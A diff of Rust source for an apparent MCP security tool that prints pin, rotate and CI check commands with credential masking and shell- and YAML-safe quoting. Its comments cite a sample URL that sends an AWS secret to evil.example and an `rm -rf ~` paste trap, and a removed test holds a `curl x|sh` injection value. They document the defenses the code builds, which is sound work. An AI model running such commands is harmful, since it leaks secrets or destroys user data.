@@ -1,34 +1,55 @@
-//! The Next steps block: one `# target` line and one `mcp-warden pin …` line per
-//! uncovered server, lock file names, and the CI snippet.
+//! The Next steps block: one `# target` line and the `mcp-warden pin …` line (and,
+//! for a server that must be reviewed first, its `lock rotate` line) per uncovered
+//! server, then the CI snippet.
 //!
 //! Everything here is printed raw: no markup, no colour, no emoji substitution, and
 //! never wrapped or truncated to the terminal width, because the user copies it.
 //!
 //! # Paste safety
 //!
-//! Every word that came from a config passes through [`safe_text_capped`] (2048
-//! code points) and then [`quote`], so a pasted pin line is exactly one command
-//! whose argv is what is shown. Arguments and URLs that carry credentials are
-//! replaced by quoted placeholders as decided by [`crate::text::mask`].
+//! Every word that came from a config is printed as [`crate::text::mask`] shows it
+//! (neutralised, capped at 2048 code points, withheld as a quoted placeholder when
+//! it carries a credential of any recognised shape) and then [`quote`]d, so a pasted
+//! pin line is exactly one command whose argv is what is shown.
 //!
 //! The `# target` line is a comment in bash and fish, but **not** in an interactive
 //! zsh, where `INTERACTIVE_COMMENTS` is off by default: pasting `# x; rm -rf ~`
 //! there would run `rm -rf ~`. The target is therefore shell-quoted after the `#`
 //! (`# '~/.cursor/mcp.json#github'`): in zsh the line then runs a command named `#`
 //! with one literal argument, which fails harmlessly.
+//!
+//! # Approval
+//!
+//! `--approve` records a human approval of whatever the capture finds. It is printed
+//! only for a server from a user-level config with no critical or high finding
+//! ([`Approval::AtPin`]). A server from a project file (a cloned repository's
+//! `.mcp.json`) or from `--config`, or one doctor has just flagged critical or high,
+//! gets a pin line without it, followed by the `lock rotate … --approver` line to run
+//! once the lock has been reviewed ([`Approval::AfterReview`]).
+//!
+//! # The CI snippet
+//!
+//! GitHub Actions evaluates `${{ … }}` expressions anywhere in a workflow, `run:`
+//! and `env:` alike, before any shell sees the text: a config value such as
+//! `https://evil.example/mcp?q=${{ secrets.AWS_SECRET_ACCESS_KEY }}` committed into
+//! a step sends the secret out, whatever the shell quoting. So no config-derived
+//! text is ever written into a `run:` script except a bare word (`[A-Za-z0-9_@%+=:,./-]`,
+//! which cannot hold `$` or `{`): every other word is passed through the step's
+//! `env:` map as a YAML single-quoted value and referenced as `"$MCP_WARDEN_ARG_<n>"`
+//! (GitHub's own hardening advice for untrusted input), and a server with a word that
+//! contains `${{` gets no step at all, only a comment saying why. The install step
+//! names this package at the exact version that printed the snippet.
 
 use std::borrow::Cow;
-use std::collections::HashSet;
 use std::io::{self, Write};
 
-use sha2::{Digest, Sha256};
-
-use crate::engines::secrets::contains_vendor_pattern;
-use crate::model::{AuditedServer, Coverage, Report, ServerSpec};
+use crate::model::{AuditedServer, Report, Scope, ServerSpec};
+use crate::render::lock_names::uncovered_with_lock_names;
 use crate::render::{flush_if_full, FLUSH_AT};
-use crate::text::mask::{mask_args, mask_url, ArgView, UrlView};
-use crate::text::quote::{is_bare, quote};
-use crate::text::safe_text::{safe_text_capped, safe_text_capped_cow, safe_text_cow, ARGV_CAP};
+use crate::rules::Severity;
+use crate::text::display;
+use crate::text::mask::{shown_argv, shown_url, Shown, REDACTED_ARG, REDACTED_URL};
+use crate::text::quote::{is_bare, quote, yaml_single_quoted};
 
 /// `pin`'s own option names. An argv word equal to one of these (or of the form
 /// `--name=value`) would be read by `pin` itself, so the line is printed with `--`
@@ -49,136 +70,65 @@ pub const PIN_OPTION_NAMES: &[&str] = &[
     "--",
 ];
 
-/// The approver identity printed in pin commands: a placeholder for the user's own.
+/// The approver identity printed in pin and rotate lines: a placeholder for the
+/// user's own that pastes as one plain word (`<id>` would be a shell redirection).
 pub const APPROVER_PLACEHOLDER: &str = "you@example.com";
-
-/// Printed instead of an argument that carries a credential.
-pub const REDACTED_ARG: &str = "<REDACTED>";
-
-/// Printed instead of a URL with embedded userinfo.
-pub const REDACTED_URL: &str = "<REDACTED: url embeds a credential>";
 
 /// Printed when a stdio server declares no command.
 pub const MISSING_COMMAND: &str = "<command>";
 
-/// Suffix of every lock file doctor names.
-pub const LOCK_SUFFIX: &str = ".warden.lock";
-
-/// Longest slug, so that `<slug>-<hash>.warden.lock` stays well below the usual
-/// 255-byte file-name limit.
-const MAX_SLUG: usize = 100;
-
-/// The file-name stem for a server: lowercase, each run of characters outside
-/// `[a-z0-9]` becomes `-`, `-` trimmed from both ends, at most 100 characters;
-/// `server` when nothing is left.
-pub fn lock_slug(name: &str) -> String {
-    let mut slug = String::new();
-    for c in name.to_lowercase().chars() {
-        if c.is_ascii_lowercase() || c.is_ascii_digit() {
-            slug.push(c);
-        } else if !slug.is_empty() && !slug.ends_with('-') {
-            slug.push('-');
-        }
-    }
-    slug.truncate(MAX_SLUG);
-    let trimmed = slug.trim_matches('-');
-    if trimmed.is_empty() {
-        "server".to_string()
-    } else {
-        trimmed.to_string()
-    }
+/// Whether the printed pin line records the approval itself.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Approval {
+    /// `--approve --approver you@example.com` on the pin line.
+    AtPin,
+    /// No `--approve`; a `lock rotate … --approver` line follows, to run after review.
+    AfterReview,
 }
 
-fn sha256_hex(s: &str) -> String {
-    Sha256::digest(s.as_bytes())
+/// [`Approval::AtPin`] only for a server from a user-level config with no critical
+/// or high finding.
+pub fn approval_for(report: &Report, server: &AuditedServer) -> Approval {
+    let user_level = report
+        .sources
+        .get(server.source)
+        .is_some_and(|s| s.scope == Scope::User);
+    let flagged = server
+        .findings
         .iter()
-        .map(|b| format!("{b:02x}"))
-        .collect()
-}
-
-/// `<slug>.warden.lock`, or, when `is_taken` says that name is used,
-/// `<slug>-<first 6 hex of sha256(name)>.warden.lock`, extending the hash one
-/// digit at a time while the candidate is still taken.
-pub fn lock_file_name(name: &str, is_taken: &dyn Fn(&str) -> bool) -> String {
-    let slug = lock_slug(name);
-    let plain = format!("{slug}{LOCK_SUFFIX}");
-    if !is_taken(&plain) {
-        return plain;
-    }
-    let hex = sha256_hex(name);
-    for n in 6..=hex.len() {
-        let candidate = format!("{slug}-{}{LOCK_SUFFIX}", &hex[..n]);
-        if !is_taken(&candidate) {
-            return candidate;
-        }
-    }
-    // Every hash prefix is taken: only a contrived `is_taken` gets here.
-    (2u64..)
-        .map(|i| format!("{slug}-{hex}-{i}{LOCK_SUFFIX}"))
-        .find(|c| !is_taken(c))
-        .unwrap_or(plain)
-}
-
-/// Set `lock_name` for every uncovered server ([`Coverage::None`]), in report order,
-/// and clear it for the others. A name already given to an earlier server in this
-/// run, or for which `exists_on_disk` returns true, is never reused (see
-/// [`lock_file_name`]). Call once; `doctor --pin` writes exactly these names.
-pub fn assign_lock_names(report: &mut Report, exists_on_disk: &dyn Fn(&str) -> bool) {
-    let mut taken: HashSet<String> = HashSet::new();
-    for server in &mut report.servers {
-        if server.coverage != Coverage::None {
-            server.lock_name = None;
-            continue;
-        }
-        let name = lock_file_name(&server.name, &|c| taken.contains(c) || exists_on_disk(c));
-        taken.insert(name.clone());
-        server.lock_name = Some(name);
-    }
-}
-
-/// The lock names of the uncovered servers, in report order: the assigned ones,
-/// or, for a server the caller did not assign, a name computed like
-/// [`assign_lock_names`] would (without the disk check).
-fn uncovered_with_lock_names(report: &Report) -> Vec<(&AuditedServer, Cow<'_, str>)> {
-    let taken: HashSet<&str> = report
-        .uncovered()
-        .filter_map(|s| s.lock_name.as_deref())
-        .collect();
-    let mut computed: HashSet<String> = HashSet::new();
-    report
-        .uncovered()
-        .map(|s| {
-            let name = match &s.lock_name {
-                Some(n) => Cow::Borrowed(n.as_str()),
-                None => {
-                    let n = lock_file_name(&s.name, &|c| taken.contains(c) || computed.contains(c));
-                    computed.insert(n.clone());
-                    Cow::Owned(n)
-                }
-            };
-            (s, name)
-        })
-        .collect()
-}
-
-/// How the server's launch is printed: a URL or an argv, already sanitised,
-/// masked and quoted. Words borrow from the spec when printing changes nothing:
-/// a report can name tens of thousands of servers.
-enum Launch<'a> {
-    Url(Cow<'a, str>),
-    Argv {
-        words: Vec<Cow<'a, str>>,
-        needs_separator: bool,
-    },
-}
-
-/// `word` as one shell word.
-fn quoted(word: Cow<'_, str>) -> Cow<'_, str> {
-    if is_bare(&word) {
-        word
+        .any(|f| f.severity() <= Severity::High);
+    if user_level && !flagged {
+        Approval::AtPin
     } else {
-        Cow::Owned(quote(&word).into_owned())
+        Approval::AfterReview
     }
+}
+
+/// One word of a printed launch.
+enum Word<'a> {
+    /// From the config, as [`crate::text::mask`] shows it (unquoted).
+    Config(Cow<'a, str>),
+    /// One of ours: a placeholder for a withheld or missing word.
+    Placeholder(&'static str),
+}
+
+impl Word<'_> {
+    fn quoted(&self) -> Cow<'_, str> {
+        match self {
+            Word::Config(w) => quote(w),
+            Word::Placeholder(p) => quote(p),
+        }
+    }
+}
+
+/// How the server's launch is printed: the words already sanitised and masked,
+/// shared by the pin line, the check line and the CI step.
+struct Launch<'a> {
+    /// `--url <word>` (one word) instead of an argv.
+    remote: bool,
+    words: Vec<Word<'a>>,
+    /// The argv goes after `--` because a word could be read as pin's own option.
+    needs_separator: bool,
 }
 
 /// Whether `pin` (or `check`) could read `word` as one of its own options.
@@ -204,54 +154,35 @@ fn is_option_like(word: &str) -> bool {
     false
 }
 
+fn arg_word(shown: Shown<'_>) -> Word<'_> {
+    match shown {
+        Shown::Word(w) => Word::Config(w),
+        Shown::Withheld => Word::Placeholder(REDACTED_ARG),
+    }
+}
+
 fn launch(spec: &ServerSpec) -> Launch<'_> {
     if let Some(url) = spec.remote_url() {
-        let safe = safe_text_capped_cow(url, ARGV_CAP);
-        let shown = match mask_url(&safe) {
-            UrlView::Verbatim => safe,
-            UrlView::Rewritten(s) => Cow::Owned(safe_text_capped(&s, ARGV_CAP)),
-            UrlView::Credential => Cow::Borrowed(REDACTED_URL),
+        let word = match shown_url(url) {
+            Shown::Word(w) => Word::Config(w),
+            Shown::Withheld => Word::Placeholder(REDACTED_URL),
         };
-        // `mask_url` judges URL parts; a vendor secret it does not reach (a value
-        // that is not a URL at all, found by the pin_command fuzz target) is
-        // withheld like a credential.
-        let shown = if contains_vendor_pattern(&shown) {
-            Cow::Borrowed(REDACTED_URL)
-        } else {
-            shown
+        return Launch {
+            remote: true,
+            words: vec![word],
+            needs_separator: false,
         };
-        return Launch::Url(quoted(shown));
     }
-    // A word is also withheld when its printed form holds a vendor-pattern secret:
-    // the command is not an argument `mask_args` judges, and neutralising a
-    // character can create a word boundary the raw text lacked (`\u{200D}ghp_…`).
-    fn shown(w: Cow<'_, str>) -> Option<Cow<'_, str>> {
-        (!contains_vendor_pattern(&w)).then_some(w)
-    }
-    let mut raw_words: Vec<Option<Cow<'_, str>>> = Vec::with_capacity(spec.args.len() + 1);
-    raw_words.push(match spec.launch_command() {
-        Some(c) => shown(safe_text_capped_cow(c, ARGV_CAP)),
-        None => Some(Cow::Borrowed(MISSING_COMMAND)),
+    let (command, args) = shown_argv(spec.launch_command(), &spec.args);
+    let mut words = Vec::with_capacity(args.len() + 1);
+    words.push(command.map_or(Word::Placeholder(MISSING_COMMAND), arg_word));
+    words.extend(args.into_iter().map(arg_word));
+    let needs_separator = words.iter().enumerate().any(|(i, w)| match w {
+        Word::Config(w) => is_option_like(w) || (i == 0 && w.starts_with('-')),
+        Word::Placeholder(_) => false,
     });
-    let views = mask_args(&spec.args);
-    for (i, arg) in spec.args.iter().enumerate() {
-        // A missing view fails closed: the argument is not shown.
-        match views.get(i) {
-            Some(ArgView::Verbatim(_)) => {
-                raw_words.push(shown(safe_text_capped_cow(arg, ARGV_CAP)))
-            }
-            Some(ArgView::Redacted) | None => raw_words.push(None),
-        }
-    }
-    let needs_separator = raw_words.iter().enumerate().any(|(i, w)| match w {
-        Some(w) => is_option_like(w) || (i == 0 && w.starts_with('-')),
-        None => false,
-    });
-    let words = raw_words
-        .into_iter()
-        .map(|w| quoted(w.unwrap_or(Cow::Borrowed(REDACTED_ARG))))
-        .collect();
-    Launch::Argv {
+    Launch {
+        remote: false,
         words,
         needs_separator,
     }
@@ -259,106 +190,129 @@ fn launch(spec: &ServerSpec) -> Launch<'_> {
 
 /// `--url <url>`, or `--url=<url>` when the printed URL starts with `-` and would
 /// otherwise be read as an option.
-fn push_url_option(line: &mut String, shown: &str) {
-    line.push_str(if shown.starts_with('-') {
-        "--url="
-    } else {
-        "--url "
-    });
+fn push_url_option(line: &mut String, url: &Word<'_>, shown: &str) {
+    let starts_with_dash = match url {
+        Word::Config(w) => w.starts_with('-'),
+        Word::Placeholder(p) => p.starts_with('-'),
+    };
+    line.push_str(if starts_with_dash { "--url=" } else { "--url " });
     line.push_str(shown);
 }
 
-fn push_words(line: &mut String, words: &[Cow<'_, str>]) {
-    for (i, w) in words.iter().enumerate() {
+fn push_words<'w>(line: &mut String, words: impl Iterator<Item = Cow<'w, str>>) {
+    for (i, w) in words.enumerate() {
         if i > 0 {
             line.push(' ');
         }
-        line.push_str(w);
+        line.push_str(&w);
     }
 }
 
 /// The line that pins `spec` into `lock_name`:
 ///
-/// * stdio: `mcp-warden pin <argv…> --approve --approver you@example.com --lock <name>`,
-///   or `mcp-warden pin --approve --approver you@example.com --lock <name> -- <argv…>`
-///   when a word of the argv could be read as one of `pin`'s options;
-/// * remote: `mcp-warden pin --url <url> --approve --approver you@example.com --lock <name>`.
+/// * stdio: `mcp-warden pin <argv…> [--approve --approver you@example.com] --lock <name>`,
+///   or `mcp-warden pin [--approve …] --lock <name> -- <argv…>` when a word of the
+///   argv could be read as one of `pin`'s options;
+/// * remote: `mcp-warden pin --url <url> [--approve …] --lock <name>`.
 ///
 /// `env` and `headers` never appear.
-pub fn pin_command(spec: &ServerSpec, lock_name: &str) -> String {
+pub fn pin_command(spec: &ServerSpec, lock_name: &str, approval: Approval) -> String {
     let mut line = String::new();
-    push_pin_line(&mut line, &launch(spec), lock_name);
+    push_pin_line(&mut line, &launch(spec), lock_name, approval);
     line
 }
 
-fn push_pin_line(line: &mut String, launch: &Launch<'_>, lock_name: &str) {
+fn push_pin_line(line: &mut String, launch: &Launch<'_>, lock_name: &str, approval: Approval) {
     let push_tail = |line: &mut String| {
-        line.push_str("--approve --approver ");
-        line.push_str(APPROVER_PLACEHOLDER);
-        line.push_str(" --lock ");
+        if approval == Approval::AtPin {
+            line.push_str("--approve --approver ");
+            line.push_str(APPROVER_PLACEHOLDER);
+            line.push(' ');
+        }
+        line.push_str("--lock ");
         line.push_str(&quote(lock_name));
     };
     line.push_str("mcp-warden pin ");
-    match launch {
-        Launch::Url(url) => {
-            push_url_option(line, url);
+    if launch.remote {
+        if let Some(url) = launch.words.first() {
+            push_url_option(line, url, &url.quoted());
             line.push(' ');
-            push_tail(line);
         }
-        Launch::Argv {
-            words,
-            needs_separator: false,
-        } => {
-            push_words(line, words);
-            line.push(' ');
-            push_tail(line);
-        }
-        Launch::Argv {
-            words,
-            needs_separator: true,
-        } => {
-            push_tail(line);
-            line.push_str(" -- ");
-            push_words(line, words);
-        }
+        push_tail(line);
+    } else if launch.needs_separator {
+        push_tail(line);
+        line.push_str(" -- ");
+        push_words(line, launch.words.iter().map(Word::quoted));
+    } else {
+        push_words(line, launch.words.iter().map(Word::quoted));
+        line.push(' ');
+        push_tail(line);
     }
 }
 
-/// The CI line that checks `spec` against `lock_name`, in the same argv form as
+/// The line that records the approval of `lock_name` once its lock was reviewed.
+pub fn rotate_command(lock_name: &str) -> String {
+    format!(
+        "mcp-warden lock rotate {} --approver {APPROVER_PLACEHOLDER}",
+        quote(lock_name)
+    )
+}
+
+/// The line that checks `spec` against `lock_name`, in the same argv form as
 /// [`pin_command`]: `mcp-warden check --lock <name> <argv…>` (with `--` before the
 /// argv when the pin line has it) or `mcp-warden check --url <url> --lock <name>`.
 pub fn check_command(spec: &ServerSpec, lock_name: &str) -> String {
+    let launch = launch(spec);
+    let words: Vec<Cow<'_, str>> = launch.words.iter().map(Word::quoted).collect();
     let mut line = String::new();
-    push_check_line(&mut line, &launch(spec), lock_name);
+    push_check_line(&mut line, &launch, &words, lock_name);
     line
 }
 
-fn push_check_line(line: &mut String, launch: &Launch<'_>, lock_name: &str) {
+/// `check` with each word already in its printed form (`words[i]` for
+/// `launch.words[i]`): quoted for a terminal, or an environment reference in CI.
+fn push_check_line(
+    line: &mut String,
+    launch: &Launch<'_>,
+    words: &[Cow<'_, str>],
+    lock_name: &str,
+) {
     line.push_str("mcp-warden check ");
-    match launch {
-        Launch::Url(url) => {
-            push_url_option(line, url);
-            line.push_str(" --lock ");
-            line.push_str(&quote(lock_name));
+    if launch.remote {
+        if let (Some(url), Some(shown)) = (launch.words.first(), words.first()) {
+            push_url_option(line, url, shown);
         }
-        Launch::Argv {
-            words,
-            needs_separator,
-        } => {
-            line.push_str("--lock ");
-            line.push_str(&quote(lock_name));
-            line.push_str(if *needs_separator { " -- " } else { " " });
-            push_words(line, words);
-        }
+        line.push_str(" --lock ");
+        line.push_str(&quote(lock_name));
+    } else {
+        line.push_str("--lock ");
+        line.push_str(&quote(lock_name));
+        line.push_str(if launch.needs_separator { " -- " } else { " " });
+        push_words(line, words.iter().cloned());
     }
 }
 
 /// Where the snippet says to commit itself.
 pub const WORKFLOW_PATH: &str = ".github/workflows/mcp-warden.yml";
 
-/// The start of a GitHub Actions workflow that installs mcp-warden; one `check`
-/// step per lock follows ([`push_ci_step`]).
-const CI_HEADER: &str = "name: mcp-warden\n\
+/// The package whose `mcp-warden` binary printed the snippet, and its exact version.
+pub const PACKAGE: &str = env!("CARGO_PKG_NAME");
+pub const VERSION: &str = env!("CARGO_PKG_VERSION");
+
+/// The step that installs exactly this tool: this package name at this version
+/// (another crate on crates.io is called `mcp-warden`).
+pub fn install_command() -> String {
+    format!("cargo install {PACKAGE} --locked --version ={VERSION}")
+}
+
+/// The workflow's path as a comment, then the start of a GitHub Actions workflow
+/// that installs mcp-warden; one `check` step per lock follows.
+fn push_ci_header(buf: &mut String) {
+    buf.push_str("# ");
+    buf.push_str(WORKFLOW_PATH);
+    buf.push('\n');
+    buf.push_str(
+        "name: mcp-warden\n\
 on: [push, pull_request]\n\
 permissions:\n  contents: read\n\
 jobs:\n  mcp-check:\n    runs-on: ubuntu-latest\n    steps:\n\
@@ -366,40 +320,79 @@ jobs:\n  mcp-check:\n    runs-on: ubuntu-latest\n    steps:\n\
 \x20       with:\n\
 \x20         persist-credentials: false\n\
 \x20     - name: Install mcp-warden\n\
-\x20       run: cargo install mcp-warden --locked\n";
-
-/// The workflow's path as a comment, then [`CI_HEADER`].
-fn push_ci_header(buf: &mut String) {
-    buf.push_str("# ");
-    buf.push_str(WORKFLOW_PATH);
+\x20       run: ",
+    );
+    buf.push_str(&install_command());
     buf.push('\n');
-    buf.push_str(CI_HEADER);
 }
 
-/// One `check` step. The command is a YAML literal block (`run: |`), so no character
-/// of it is YAML syntax; lock names are slugs, safe as plain scalars.
-fn push_ci_step(buf: &mut String, lock: &str, command: &str) {
-    if command.contains(REDACTED_ARG) || command.contains(REDACTED_URL) {
+/// What GitHub Actions evaluates wherever it appears in a workflow.
+const EXPRESSION_OPENER: &str = "${{";
+
+/// Name of the environment variable that carries launch word `i` into a CI step.
+fn env_name(launch: &Launch<'_>, i: usize) -> String {
+    if launch.remote {
+        "MCP_WARDEN_URL".to_string()
+    } else {
+        format!("MCP_WARDEN_ARG_{i}")
+    }
+}
+
+/// One `check` step for `launch`: bare words inline, every other config word through
+/// `env:`; no step when a config word holds an expression opener.
+fn push_ci_step(buf: &mut String, lock: &str, launch: &Launch<'_>) {
+    let has_expression = launch
+        .words
+        .iter()
+        .any(|w| matches!(w, Word::Config(c) if c.contains(EXPRESSION_OPENER)));
+    if has_expression {
+        buf.push_str("      # No step for ");
+        buf.push_str(lock);
+        buf.push_str(
+            ": a launch value of this server contains a GitHub Actions expression opener, which Actions would evaluate once committed; fix the config first.\n",
+        );
+        return;
+    }
+    if launch
+        .words
+        .iter()
+        .any(|w| matches!(w, Word::Placeholder(p) if *p == REDACTED_ARG || *p == REDACTED_URL))
+    {
         buf.push_str(
             "      # Replace each <REDACTED> placeholder with \"$NAME\" and set NAME from a repository secret under env:\n",
         );
     }
+    let mut env: Vec<(String, &str)> = Vec::new();
+    let words: Vec<Cow<'_, str>> = launch
+        .words
+        .iter()
+        .enumerate()
+        .map(|(i, w)| match w {
+            Word::Config(c) if !is_bare(c) => {
+                let name = env_name(launch, i);
+                let reference = Cow::Owned(format!("\"${name}\""));
+                env.push((name, c.as_ref()));
+                reference
+            }
+            other => other.quoted(),
+        })
+        .collect();
     buf.push_str("      - name: Check ");
     buf.push_str(lock);
-    buf.push_str("\n        run: |\n          ");
-    buf.push_str(command);
     buf.push('\n');
-}
-
-/// A GitHub Actions workflow that installs mcp-warden and runs one `check` step per
-/// `(lock, command)`.
-pub fn ci_snippet(checks: &[(String, String)]) -> String {
-    let mut y = String::new();
-    push_ci_header(&mut y);
-    for (lock, command) in checks {
-        push_ci_step(&mut y, lock, command);
+    if !env.is_empty() {
+        buf.push_str("        env:\n");
+        for (name, value) in &env {
+            buf.push_str("          ");
+            buf.push_str(name);
+            buf.push_str(": ");
+            buf.push_str(&yaml_single_quoted(value));
+            buf.push('\n');
+        }
     }
-    y
+    buf.push_str("        run: |\n          ");
+    push_check_line(buf, launch, &words, lock);
+    buf.push('\n');
 }
 
 /// The Next steps block for every uncovered server, in report order; nothing when
@@ -415,17 +408,30 @@ pub fn render_next_steps(report: &Report, out: &mut dyn Write) -> io::Result<()>
         "Next steps — {} server(s) have no warden.lock. Pin each once, commit the lock, then wire the check into CI:\n",
         uncovered.len()
     ));
-    // Masking and quoting are decided once per server and shared by both lines.
+    // Masking and quoting are decided once per server and shared by every line.
     let mut launches: Vec<Launch<'_>> = Vec::with_capacity(uncovered.len());
+    let mut any_after_review = false;
     for (server, lock) in &uncovered {
         let shown = launch(&server.spec);
+        let approval = approval_for(report, server);
         buf.push_str("  # ");
-        buf.push_str(&quote(&safe_text_cow(&server.target)));
+        buf.push_str(&quote(&display(&server.target)));
         buf.push_str("\n  ");
-        push_pin_line(&mut buf, &shown, lock);
+        push_pin_line(&mut buf, &shown, lock, approval);
         buf.push('\n');
+        if approval == Approval::AfterReview {
+            any_after_review = true;
+            buf.push_str("  ");
+            buf.push_str(&rotate_command(lock));
+            buf.push('\n');
+        }
         launches.push(shown);
         flush_if_full(&mut buf, out)?;
+    }
+    if any_after_review {
+        buf.push_str(
+            "  (servers from a project or --config file, or with a critical or high finding, are pinned unapproved: review each lock, then run its lock rotate line)\n",
+        );
     }
     if uncovered
         .iter()
@@ -440,11 +446,8 @@ pub fn render_next_steps(report: &Report, out: &mut dyn Write) -> io::Result<()>
         "Then in CI (one check step per pinned server), e.g. as {WORKFLOW_PATH}:\n"
     ));
     push_ci_header(&mut buf);
-    let mut command = String::new();
     for ((_, lock), shown) in uncovered.iter().zip(&launches) {
-        command.clear();
-        push_check_line(&mut command, shown, lock);
-        push_ci_step(&mut buf, lock, &command);
+        push_ci_step(&mut buf, lock, shown);
         flush_if_full(&mut buf, out)?;
     }
     out.write_all(buf.as_bytes())
@@ -453,7 +456,8 @@ pub fn render_next_steps(report: &Report, out: &mut dyn Write) -> io::Result<()>
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::model::Source;
+    use crate::model::{Coverage, Source};
+    use crate::render::lock_names::assign_lock_names;
 
     const GHP_ENG: &str = "ghp_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8";
 
@@ -470,27 +474,6 @@ mod tests {
             url: Some(url.to_string()),
             ..ServerSpec::default()
         }
-    }
-
-    #[test]
-    fn slugs() {
-        assert_eq!(lock_slug("My Server"), "my-server");
-        assert_eq!(lock_slug("a/b"), "a-b");
-        assert_eq!(lock_slug("gh#servers"), "gh-servers");
-        assert_eq!(lock_slug("GitHub_MCP"), "github-mcp");
-        assert_eq!(lock_slug(""), "server");
-        assert_eq!(lock_slug("日本"), "server");
-        assert_eq!(lock_slug("--x--"), "x");
-        assert_eq!(
-            lock_slug("gh\u{FFFD}[2K\u{FFFD}[1;31mFAKE CLEAN"),
-            "gh-2k-1-31mfake-clean"
-        );
-        assert_eq!(
-            lock_slug("gh\n  mcp-warden pin sh -c 'curl x|sh' --approve #"),
-            "gh-mcp-warden-pin-sh-c-curl-x-sh-approve"
-        );
-        let long = lock_slug(&"ab-".repeat(200));
-        assert!(long.len() <= 100 && !long.ends_with('-'));
     }
 
     fn server(name: &str, coverage: Coverage) -> AuditedServer {
@@ -513,73 +496,12 @@ mod tests {
                 client: "Cursor".into(),
                 label: "~/.cursor/mcp.json".into(),
                 path: "/home/u/.cursor/mcp.json".into(),
-                explicit: false,
+                scope: crate::model::Scope::User,
             }],
             servers,
             sandbox: "landlock ABI 7, seccomp, no capabilities".into(),
             ..Report::default()
         }
-    }
-
-    fn names(r: &Report) -> Vec<Option<String>> {
-        r.servers.iter().map(|s| s.lock_name.clone()).collect()
-    }
-
-    #[test]
-    fn collision_in_run_gets_hash_suffix() {
-        let mut r = report(vec![
-            server("a/b", Coverage::None),
-            server("a-b", Coverage::None),
-        ]);
-        assign_lock_names(&mut r, &|_| false);
-        assert_eq!(
-            names(&r),
-            vec![
-                Some("a-b.warden.lock".into()),
-                Some("a-b-d44362.warden.lock".into())
-            ]
-        );
-    }
-
-    #[test]
-    fn collision_on_disk_and_rechecked_hash() {
-        let mut r = report(vec![
-            server("gh", Coverage::None),
-            server("covered", Coverage::Approved),
-            server(
-                "x",
-                Coverage::Unapproved {
-                    lock: "x.warden.lock".into(),
-                    reason: "r".into(),
-                },
-            ),
-        ]);
-        let h = sha256_hex("gh");
-        let first = format!("gh-{}.warden.lock", &h[..6]);
-        let on_disk = ["gh.warden.lock".to_string(), first];
-        assign_lock_names(&mut r, &|c| on_disk.iter().any(|d| d == c));
-        assert_eq!(
-            names(&r),
-            vec![Some(format!("gh-{}.warden.lock", &h[..7])), None, None]
-        );
-    }
-
-    #[test]
-    fn unassigned_names_are_computed_for_printing() {
-        let mut r = report(vec![
-            server("a-b", Coverage::None),
-            server("a/b", Coverage::None),
-        ]);
-        r.servers[0].lock_name = Some("a-b.warden.lock".into());
-        let got: Vec<String> = uncovered_with_lock_names(&r)
-            .into_iter()
-            .map(|(_, n)| n.into_owned())
-            .collect();
-        assert_eq!(got[0], "a-b.warden.lock");
-        assert_eq!(
-            got[1],
-            format!("a-b-{}.warden.lock", &sha256_hex("a/b")[..6])
-        );
     }
 
     #[test]
@@ -589,7 +511,8 @@ mod tests {
         assert_eq!(
             pin_command(
                 &stdio("npx", &["-y", "@modelcontextprotocol/server-github"]),
-                "gh.warden.lock"
+                "gh.warden.lock",
+                Approval::AtPin
             ),
             format!(
                 "mcp-warden pin npx -y @modelcontextprotocol/server-github {}",
@@ -601,7 +524,8 @@ mod tests {
         assert_eq!(
             pin_command(
                 &stdio("npx", &["--key", "${SMITHERY_KEY}", "--key", "%SMITHERY_KEY%", "-y", "@smithery/cli@1.2.3"]),
-                "s.warden.lock"
+                "s.warden.lock",
+                Approval::AtPin
             ),
             format!(
                 "mcp-warden pin npx --key '${{SMITHERY_KEY}}' --key '%SMITHERY_KEY%' -y @smithery/cli@1.2.3 {}",
@@ -610,7 +534,11 @@ mod tests {
         );
         // Test 17 clean URL.
         assert_eq!(
-            pin_command(&remote("https://h.example.com/mcp"), "r.warden.lock"),
+            pin_command(
+                &remote("https://h.example.com/mcp"),
+                "r.warden.lock",
+                Approval::AtPin
+            ),
             format!(
                 "mcp-warden pin --url https://h.example.com/mcp {}",
                 tail("r")
@@ -620,7 +548,8 @@ mod tests {
         assert_eq!(
             pin_command(
                 &remote("https://h.example.com/a%20b/mcp?profile=p&x=1#frag"),
-                "r.warden.lock"
+                "r.warden.lock",
+                Approval::AtPin
             ),
             format!(
                 "mcp-warden pin --url 'https://h.example.com/a%20b/mcp?profile=p&x=1#frag' {}",
@@ -632,7 +561,7 @@ mod tests {
         both.command = Some("npx".into());
         both.env = vec![("GITHUB_TOKEN".into(), GHP_ENG.into())];
         both.headers = vec![("Authorization".into(), "Bearer x".into())];
-        let line = pin_command(&both, "remote.warden.lock");
+        let line = pin_command(&both, "remote.warden.lock", Approval::AtPin);
         assert_eq!(
             line,
             format!(
@@ -643,7 +572,7 @@ mod tests {
         assert!(!line.contains(GHP_ENG) && !line.contains("Bearer"));
         // Missing command.
         assert_eq!(
-            pin_command(&stdio("", &["x y"]), "s.warden.lock"),
+            pin_command(&stdio("", &["x y"]), "s.warden.lock", Approval::AtPin),
             format!("mcp-warden pin '<command>' 'x y' {}", tail("s"))
         );
     }
@@ -653,7 +582,11 @@ mod tests {
     #[test]
     fn secrets_in_the_command_or_created_by_neutralising_are_withheld() {
         // Found by the pin_command fuzz target: the command was printed unmasked.
-        let line = pin_command(&stdio("O33;-xoxp-1eeeeep-1eeeee", &[]), "s.warden.lock");
+        let line = pin_command(
+            &stdio("O33;-xoxp-1eeeeep-1eeeee", &[]),
+            "s.warden.lock",
+            Approval::AtPin,
+        );
         assert!(!line.contains("xoxp"), "{line}");
         assert!(
             line.starts_with("mcp-warden pin '<REDACTED>' --approve"),
@@ -661,9 +594,13 @@ mod tests {
         );
         // ZWJ is a word character, so the raw argument has no `\bghp_`; its U+FFFD is not.
         let zwj = format!("\u{200D}{GHP_ENG}");
-        let line = pin_command(&stdio("npx", &[&zwj]), "s.warden.lock");
+        let line = pin_command(&stdio("npx", &[&zwj]), "s.warden.lock", Approval::AtPin);
         assert!(!line.contains(GHP_ENG), "{line}");
-        let line = pin_command(&remote("xoxr-dapibtoken21rkvo2xzxxexx"), "s.warden.lock");
+        let line = pin_command(
+            &remote("xoxr-dapibtoken21rkvo2xzxxexx"),
+            "s.warden.lock",
+            Approval::AtPin,
+        );
         assert!(
             line.starts_with("mcp-warden pin --url '<REDACTED: url embeds"),
             "{line}"
